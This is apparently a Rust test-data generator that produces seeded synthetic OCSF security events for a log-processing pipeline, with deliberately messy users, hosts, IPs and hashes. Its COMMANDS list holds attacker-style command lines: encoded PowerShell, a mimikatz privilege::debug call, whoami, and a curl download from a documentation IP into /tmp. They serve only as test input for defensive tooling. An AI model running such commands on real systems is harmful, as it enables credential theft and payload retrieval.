use aurora_clock::Timestamp;
use aurora_ids::{Derive, Id128};
use aurora_model::{EventItem, EventUid, Scope, SiteId, SourceName};
use serde_json::{Map, Value, json};

use super::HOSTILE_TEXTS;
use crate::Row;

/// A small generator (splitmix64), so that a seed gives the same events everywhere.
#[derive(Clone, Debug)]
pub struct Random(pub u64);

impl Random {
    pub fn number(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut mixed = self.0;
        mixed = (mixed ^ (mixed >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        mixed ^ (mixed >> 31)
    }

    pub fn below(&mut self, end: usize) -> usize {
        usize::try_from(self.number() % end as u64).expect("less than a usize")
    }

    pub fn chance(&mut self, percent: usize) -> bool {
        self.below(100) < percent
    }

    pub fn pick<T: Copy>(&mut self, among: &[T]) -> T {
        among[self.below(among.len())]
    }
}

pub(crate) const USERS: &[&str] = &[
    "alice", "ALICE", "bob", "Jürgen", "SYSTEM", "svc_*", "100%_a",
];
pub(crate) const HOSTS: &[&str] = &["ws-01", "ws-02", "WS-01", "dc.corp.example"];
pub(crate) const IPS: &[&str] = &[
    "10.0.0.5",
    "10.200.1.9",
    "192.168.7.7",
    "::ffff:10.0.0.5",
    "fe80::1",
    "2001:db8::7",
    "none",
];
pub(crate) const COMMANDS: &[&str] = &[
    "powershell.exe -enc SQBFAFgA",
    "C:\\Windows\\System32\\cmd.exe /c whoami",
    "mimikatz.exe \"privilege::debug\" exit",
    "/usr/bin/curl -o /tmp/x http://203.0.113.9/x?a=1&b=%20",
    "echo it's * a ? test_%",
    "",
];
pub(crate) const HASHES: &[&str] = &["d41d8cd98f00b204e9800998ecf8427e", "ABCDEF", "0"];
pub(crate) const SOURCES: &[&str] = &["windows", "zeek", "cloudtrail"];
/// Midnight of a day in 2026.
pub const START: i64 = 1_780_272_000_000;

/// A site that nobody else has.
pub fn scope() -> Scope {
    Scope::of(SiteId(Id128::random()))
}

/// `count` rows over six hours, uids from the seed.
pub fn rows(random: &mut Random, count: usize) -> Vec<Row> {
    (0..count).map(|_| row(random)).collect()
}

pub fn row(random: &mut Random) -> Row {
    let uid = EventUid(
        Derive::new("aurora.testkit")
            .number(random.number())
            .finish(),
    );
    let event = event(random, uid);
    let received_at = Timestamp::from_millis(START + 6 * 3_600_000);
    let source = SourceName::new(random.pick(SOURCES));
    Row {
        source,
        received_at,
        item: EventItem::new(uid, 1, &event),
    }
}

/// An OCSF-shaped event in which every attribute may be missing that may be.
pub fn event(random: &mut Random, uid: EventUid) -> Map<String, Value> {
    let offset = i64::try_from(random.below(6 * 3_600_000)).expect("six hours");
    let class = random.pick(&[1007_u32, 3002, 4001, 6003]);
    let mut event = json!({
        "time": START + offset,
        "class_uid": class,
        "class_name": format!("Class {class}"),
        "category_uid": class / 1000,
        "activity_id": random.below(7),
        "severity_id": random.below(7),
        "type_uid": class * 100 + 1,
        "metadata": {"uid": uid.to_string(), "version": "1.3.0", "product": {"name": "test"}},
    });
    let event_map = event.as_object_mut().expect("an object was written above");
    optional(random, event_map);
    if random.chance(30) {
        event_map.insert("unmapped".to_owned(), unmapped(random));
    }
    if random.chance(80) {
        let text = random.pick(COMMANDS);
        event_map.insert(
            "raw_data".to_owned(),
            json!(format!("{{\"CommandLine\":{text:?}}}\n")),
        );
    }
    event_map.clone()
}

fn optional(random: &mut Random, event: &mut Map<String, Value>) {
    for (name, chance) in OPTIONAL {
        let value = attribute(random, name);
        if random.chance(*chance) {
            event.insert((*name).to_owned(), value);
        }
    }
}

/// Attributes and how often, in percent, an event has them.
const OPTIONAL: &[(&str, usize)] = &[
    ("process", 60),
    ("user", 50),
    ("actor", 40),
    ("device", 70),
    ("src_endpoint", 60),
    ("dst_endpoint", 50),
    ("answers", 30),
    ("file", 40),
    ("message", 30),
    ("duration", 30),
    ("is_remote", 30),
    ("status_id", 20),
];

fn attribute(random: &mut Random, name: &str) -> Value {
    match name {
        "process" => process(random),
        "user" => json!({"name": random.pick(USERS), "uid": random.below(3).to_string()}),
        "actor" => {
            let process = json!({"cmd_line": random.pick(COMMANDS)});
            json!({"user": {"name": random.pick(USERS)}, "process": process})
        }
        "device" => json!({"hostname": random.pick(HOSTS), "ip": random.pick(IPS), "type_id": 0}),
        "src_endpoint" => json!({"ip": random.pick(IPS), "port": random.below(70_000)}),
        "dst_endpoint" => {
            let hostname = random.pick(HOSTS);
            json!({"ip": random.pick(IPS), "port": random.below(1024), "hostname": hostname})
        }
        "answers" => (0..random.below(4))
            .map(|n| json!({"rdata": random.pick(IPS), "ttl": n}))
            .collect(),
        "file" => {
            let (path, size) = (random.pick(COMMANDS), random.below(9));
            json!({"name": "x.dll", "path": path, "hashes": hashes(random), "size": size})
        }
        "message" => json!(random.pick(HOSTILE_TEXTS)),
        "duration" => json!(random.pick(&[1, 250, -3])),
        "is_remote" => json!(random.chance(50)),
        _ => json!(random.below(3)),
    }
}

fn process(random: &mut Random) -> Value {
    let mut process = json!({"pid": random.below(50), "cmd_line": random.pick(COMMANDS)});
    if random.chance(50) {
        process["name"] = json!(random.pick(&["cmd.exe", "CMD.EXE", "bash"]));
        process["file"] = json!({"path": "C:\\Windows\\cmd.exe", "hashes": hashes(random)});
    }
    if random.chance(50) {
        process["parent_process"] =
            json!({"cmd_line": random.pick(COMMANDS), "pid": random.below(9)});
    }
    process
}

fn hashes(random: &mut Random) -> Value {
    let count = random.below(3);
    (0..count)
        .map(|_| json!({"algorithm_id": 1, "value": random.pick(HASHES)}))
        .collect()
}

fn unmapped(random: &mut Random) -> Value {
    json!({
        "LogonType": random.below(11),
        "Key with.dots": random.pick(HOSTILE_TEXTS),
        "Flag": random.chance(50),
        "Nothing": null,
        "List": ["a", 1],
    })
}
